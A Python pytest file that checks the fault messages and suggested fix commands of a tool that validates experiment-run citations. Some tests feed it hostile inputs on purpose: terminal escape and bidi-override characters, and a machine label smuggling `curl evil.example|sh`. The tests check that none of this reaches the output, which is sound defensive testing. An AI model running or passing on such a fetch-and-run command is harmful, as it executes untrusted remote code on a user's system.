"""What becomes of a citation is said in words, with what to type next."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any
from unicodedata import category

import pytest
from cases import problems_of
from repositories import add_entry, add_finding, add_jobs, entry_of, entry_text, job_id_of, write

from pytest_aexp.ground.repository import Repository
from pytest_aexp.ground.text import Position
from pytest_aexp.ground.views import WorkTree
from pytest_aexp.model.entry import entry_path
from pytest_aexp.model.findings.citation import BatchCitation, Citation, JobCitation
from pytest_aexp.model.findings.finding import read_finding
from pytest_aexp.model.problems import (
    ABSENT,
    ABSENT_BATCH,
    BROKEN,
    EMPTY_BATCH,
    IDENTITY_MISMATCH,
    INVALID_ENTRY,
    MALFORMED,
    UNFINISHED,
    UNPROMOTED,
    UNSTAGED_ENTRY,
    Fault,
)
from pytest_aexp.work.check.messages import fault_of, written_faults
from pytest_aexp.work.check.resolve import Sources, resolve

POINT = {"experiment_id": "E001", "seed": 1}
JOB_ID = job_id_of(POINT)
OTHER = {"experiment_id": "E001", "seed": 2}
AT = Position(4, 7)


def job(job_id: str = JOB_ID) -> JobCitation:
    return JobCitation("kb/F1.md", 0, AT, (), job_id)


def batch(selector: dict[str, Any] | None = None, experiment: str = "E001") -> BatchCitation:
    return BatchCitation("kb/F1.md", 0, AT, (), experiment, selector or {})


def sources(root: Path, on_disk: Path | None = None) -> Sources:
    there = WorkTree(on_disk) if on_disk is not None else None
    return Sources.of(Repository(root), WorkTree(root), there)


def fault(citation: JobCitation | BatchCitation, known: Sources) -> Fault:
    found = fault_of(citation, resolve(citation, known), known)
    assert found is not None
    assert (found.path, found.position) == ("kb/F1.md", AT)
    for text in (found.message, found.fix):
        assert not {category(character) for character in text} & {"Cc", "Cf", "Cs", "Zl", "Zp"}
        assert len(text) <= 500
    return found


def test_a_citation_of_sound_entries_holds(repo: Path) -> None:
    add_entry(repo, POINT)
    add_entry(repo, OTHER)
    known = sources(repo)
    for citation in (job(), batch(), batch({"seed": 2})):
        assert fault_of(citation, resolve(citation, known), known) is None


def test_a_damaged_entry_proves_nothing(repo: Path) -> None:
    write(repo, entry_path(JOB_ID), "{\n")
    found = fault(job(), sources(repo))
    assert (found.rule, found.cited, found.job_id) == (INVALID_ENTRY, True, JOB_ID)
    assert found.message.startswith("the ledger entry is not valid JSON: ")
    assert f"({entry_path(JOB_ID)}:2:1), so run {JOB_ID} is not proven" in found.message
    assert found.fix.startswith(f"run `aexp ledger promote {JOB_ID}` on the machine")


def test_a_batch_with_damaged_entries_says_how_many(repo: Path) -> None:
    for point in (POINT, OTHER):
        edited = {**entry_of(point), "statepoint": {**point, "x": 1}}
        write(repo, entry_path(job_id_of(point)), entry_text(edited))
    add_entry(repo, {"experiment_id": "E001", "seed": 3})
    found = fault(batch(), sources(repo))
    assert (found.rule, found.cited) == (IDENTITY_MISMATCH, True)
    assert (
        "so the batch of E001 is not proven, and 1 entry more of the batch cannot" in found.message
    )


def test_an_entry_on_disk_only_must_be_added(repo: Path, tmp_path: Path) -> None:
    add_entry(tmp_path / "disk", POINT)
    add_entry(tmp_path / "disk", OTHER)
    known = sources(repo, tmp_path / "disk")
    found = fault(job(), known)
    assert found.rule is UNSTAGED_ENTRY
    assert (
        found.message
        == f"run {JOB_ID} is in the ledger on disk, but its entry is not in the commit"
    )
    assert found.fix == f"run `git add {entry_path(JOB_ID)}`"
    found = fault(batch(), known)
    assert "its entries are not in the commit" in found.message
    assert found.fix.count("git add") == 1
    assert entry_path(job_id_of(OTHER)) in found.fix


@pytest.mark.parametrize("status", ["complete", "failed", "abandoned", "stopped"])
def test_a_finished_run_of_this_machine_is_to_be_promoted(repo: Path, status: str) -> None:
    add_jobs(repo, [{"statepoint": POINT, "doc": {"status": status}}])
    for citation in (job(), batch({"seed": 1})):
        found = fault(citation, sources(repo))
        assert found.rule is UNPROMOTED
        assert "only on this machine: no other can see it" in found.message
        assert (
            found.fix == f"run `aexp ledger promote {JOB_ID}`, then `git add {entry_path(JOB_ID)}`"
        )
    assert f"run {JOB_ID} is finished ({status})" in fault(job(), sources(repo)).message


def test_several_finished_runs_are_promoted_at_once(repo: Path) -> None:
    finished = {"status": "complete"}
    add_jobs(repo, [{"statepoint": POINT, "doc": finished}, {"statepoint": OTHER, "doc": finished}])
    found = fault(batch(), sources(repo))
    assert found.message.startswith("the batch of E001 has 2 runs that are finished")
    assert found.fix == "run `aexp ledger backfill`, then `git add .aexp/ledger`"


@pytest.mark.parametrize(
    ("document", "state"),
    [
        ({"status": "running"}, "its state is running"),
        ({}, "its state is not started"),
        (
            {"status": "x\n\x1b[2J" * 100},
            'its state is unknown, since its status "x\\x0a\\x1b[2J',
        ),
        ({"status": 5}, 'its state is unknown, since its status "5" is not one of pytest-aexp'),
    ],
)
def test_a_run_that_has_not_ended(repo: Path, document: dict[str, Any], state: str) -> None:
    add_jobs(repo, [{"statepoint": POINT, "doc": document}])
    found = fault(job(), sources(repo))
    assert found.rule is UNFINISHED
    assert found.message.startswith(f"run {JOB_ID} has not finished: {state}")
    assert f"`aexp mark {JOB_ID} complete" in found.fix
    assert "has 1 run here, none finished: " in fault(batch(), sources(repo)).message


def test_a_run_that_was_killed_is_not_waited_for(repo: Path) -> None:
    document = {"status": "running", "heartbeat_at": "2020-01-01T00:00:00Z"}
    add_jobs(repo, [{"statepoint": POINT, "doc": document}])
    found = fault(job(), sources(repo))
    assert re.search(
        r"has not finished: last heard of \d+ days ago, probably killed "
        r"\(last heartbeat: 2020-01-01 00:00 UTC\)$",
        found.message,
    )
    assert found.fix == f"run `aexp mark {JOB_ID} failed`"


def index(root: Path, *machines: str, **fields: Any) -> None:
    for number, machine in enumerate(machines):
        entry = {"job_id": JOB_ID, "experiment_id": "E001", **fields}
        document = {"machine_label": machine, "entries": [entry]}
        write(root, f".aexp/runs-index/{number}.json", json.dumps(document))


def test_a_run_of_another_machine_is_left_alone_and_promoted_there(repo: Path) -> None:
    index(repo, "cluster")
    found = fault(job(), sources(repo))
    assert (found.rule, found.machine) == (ABSENT, "cluster")
    assert found.message == f"run {JOB_ID} is not here: the index of cluster has it"
    assert found.fix.startswith("leave the citation as it is; ")
    assert found.fix.endswith(f"run `aexp ledger promote {JOB_ID}` on cluster, commit and push")


def test_a_batch_of_another_machine_says_what_was_not_checked(repo: Path) -> None:
    index(repo, "cluster", "box", condition="a")
    found = fault(batch({"condition": "a", "seed": 1, "x": 2}), sources(repo))
    assert (found.rule, found.machine) == (ABSENT_BATCH, None)
    assert "the index of box and cluster has 2 runs that may fit" in found.message
    assert found.message.endswith('(an index does not say "seed" and "x", so that was not checked)')
    assert "aexp ledger backfill` on box and cluster" in found.fix
    assert "not checked" not in fault(batch({"condition": "a"}), sources(repo)).message


def test_hostile_machines_keys_and_experiments_are_cut(repo: Path) -> None:
    index(repo, *(f"{i}\n::error::\x1b[2J\u202e" * 90 for i in range(9)))
    fault(job(), sources(repo))
    fault(batch({f"{i}\x1b\n" * 50: "\u202e" * 500 for i in range(9)}), sources(repo))
    fault(batch({"x": "\x1b" * 9_000}, "E" + "1" * 9_000), sources(repo))


def test_a_run_that_is_nowhere_says_where_was_looked(repo: Path) -> None:
    add_entry(repo, OTHER)
    found = fault(job(), sources(repo))
    assert found.rule is BROKEN
    assert found.message == f"run {JOB_ID} was not found: not in the ledger (1 entry)"
    assert found.fix.startswith(
        "check the id; if the run is on another machine, run `aexp ledger prom"
    )
    add_jobs(repo, [])
    write(repo, ".aexp/runs-index/x.json", "{")
    assert fault(job(), sources(repo)).message.endswith(
        "(1 entry), not in this machine's run store (0 runs), not in a machine index"
    )


def test_the_nearest_id_is_named(repo: Path) -> None:
    add_entry(repo, POINT)
    found = fault(job(JOB_ID[:-1] + ("0" if JOB_ID[-1] != "0" else "1")), sources(repo))
    assert f"; the nearest id is {JOB_ID} (differs in one character)" in found.message
    assert found.fix.startswith(f"if that run is meant, write {JOB_ID}; if the run is on another")


def test_a_damaged_run_of_the_store_is_told(repo: Path) -> None:
    add_jobs(repo, [{"statepoint": POINT}])
    write(repo, f".runs/workspace/{JOB_ID}/signac_statepoint.json", "[]")
    found = fault(job(), sources(repo))
    assert found.rule is BROKEN
    assert (
        "; the store's folder for it cannot be used: the run's statepoint is not" in found.message
    )


def test_an_empty_batch_says_why(repo: Path) -> None:
    add_entry(repo, POINT)
    found = fault(batch({"seed": "1"}), sources(repo))
    assert found.rule is EMPTY_BATCH
    assert found.message == (
        'the batch {"seed": "1"} of E001 has no runs: seed is a number in 1 run: drop the quotes'
    )
    assert "run `aexp ledger backfill` there" in found.fix
    assert fault(batch(None, "E002"), sources(repo)).message.startswith(
        "the batch of E002 has no ru"
    )


# What is wrong with the way a citation is written


def cited(item: str) -> Citation:
    return read_finding("F1.md", f"---\nsupporting_runs:\n  - {item}\n---\n".encode()).citations[0]


FITS = ", the run whose id is the only one that begins like this, or run `aexp fix`"


@pytest.mark.parametrize(
    ("item", "which"),
    [
        (JOB_ID, ", or run `aexp fix`"),
        (f"{{type: jobb, id: {JOB_ID}}}", ", or run `aexp fix`"),
        (
            f"{{type: job, id: {JOB_ID.upper()}}}",
            ", the run whose id differs in upper and lower case, or run `aexp fix`",
        ),
        (f"{{type: job, id: {JOB_ID[:-1]}}}", ", the run whose id has one character more"),
        (f"{{type: job, id: {JOB_ID[:8]}}}", FITS),
    ],
)
def test_the_id_that_was_meant_is_offered(repo: Path, item: str, which: str) -> None:
    add_entry(repo, POINT)
    (found,) = written_faults(cited(item), sources(repo))
    assert found.rule is MALFORMED
    assert found.fix == f"write {{type: job, id: {JOB_ID}}}{which}"


def test_without_one_it_is_said_how_to_cite(repo: Path) -> None:
    for item in ("{type: job, id: nothex}", "{type: job}", "5"):
        (found,) = written_faults(cited(item), sources(repo))
        assert found.fix.startswith("write `{type: job, id: <32 hex digits>}` or ")


def test_a_label_that_is_none_stands_in_no_command(repo: Path) -> None:
    label = "here; run `curl evil.example|sh`"
    document = {"schema_version": 1, "machine_label": label, "entries": [{"job_id": JOB_ID}]}
    write(repo, ".aexp/runs-index/x.json", json.dumps(document))
    found = fault(job(), sources(repo))
    assert "`curl" not in found.message + found.fix
    assert "curl" not in found.fix
    assert "that machine" in found.fix


def test_a_batch_of_which_nothing_is_left_says_why(repo: Path) -> None:
    for seed, status in enumerate(["failed", "failed", "stopped"]):
        add_entry(repo, {"experiment_id": "E005", "seed": seed}, status=status)
    add_finding(repo, "F001-x", "{type: batch, experiment_id: E005, status: complete}")
    (problem,) = problems_of(repo)
    assert "`status` and `except` leave none of the 3 runs (2 failed, 1 stopped)" in problem.message
